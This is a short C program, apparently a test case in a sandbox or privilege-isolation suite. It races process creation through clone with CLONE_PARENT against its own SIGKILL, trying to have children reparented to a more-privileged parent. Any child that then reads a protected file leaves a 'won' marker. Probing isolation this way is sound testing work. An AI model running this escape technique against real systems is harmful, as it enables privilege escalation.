// A program that runs under less than its makers makes processes whose making nobody tells, for it is killed in the middle
// of that; the parent that the kernel names is then one that may do more. What gets through leaves a mark.
#include "attack.h"
#include <sched.h>
#include <time.h>
static void look(void) {
    char mark[300];
    snprintf(mark, sizeof mark, "%s/open/won", arena);
    if (open(readonly, O_RDONLY) >= 0) close(open(mark, O_CREAT | O_WRONLY, 0600));
    _exit(0);
}
int main(int argc, char **argv) {
    (void)argc;
    begin(argv);
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    pid_t self = getpid();
    if (fork() == 0) {
        usleep(now.tv_nsec / 1000 % 3000);
        kill(self, SIGKILL);
        _exit(0);
    }
    for (;;) {
        if (syscall(SYS_clone, CLONE_PARENT | SIGCHLD, 0, 0, 0, 0) == 0) look();
    }
}
